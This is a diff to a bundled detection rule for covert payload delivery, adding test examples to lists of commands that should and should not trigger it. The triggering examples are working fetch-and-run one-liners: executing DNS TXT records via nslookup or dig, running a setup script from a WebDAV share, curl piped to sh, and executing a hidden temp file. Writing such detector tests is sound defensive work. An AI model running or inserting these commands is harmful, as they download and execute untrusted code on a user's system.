@@ -501,12 +501,14 @@ const covertDelivery = (0,_core_rule_js__WEBPACK_IMPORTED_MODULE_0__/* .defineRu
     examples: {
         fires: [
             '```cmd\nfor /f "tokens=*" %i in (\'nslookup -q=txt step.some-service.net\') do cmd /c %i\n```\n',
+            '```bash\nbash -c "$(dig +short TXT step.some-service.net)"\n```\n',
             '```cmd\nnet use Y: \\\\files.some-service.net@SSL\\DavWWWRoot\\kit && Y:\\setup.cmd\n```\n',
             '```bash\ndeno run -A "data:application/typescript;base64,Y29uc29sZS5sb2coMSk="\n```\n',
             '```bash\nosascript -l JavaScript -e \'app.doShellScript("curl -s https://cdn.some-service.net/s | sh")\'\n```\n',
             '>>> scripts/load.py\nexec(open("/tmp/.unit-3").read())\n',
         ],
         silent: [
+            '```bash\nkubectl exec deploy/web -- sh -c "nslookup db"\n```\n',
             '```bash\ndig +short TXT example.org | sort\n```\n',
             '```cmd\nnet use Y: \\\\fileserver\\team\ndir Y:\\\n```\n',
             '>>> scripts/load.py\nprint(open("/tmp/report.txt").read())\n',
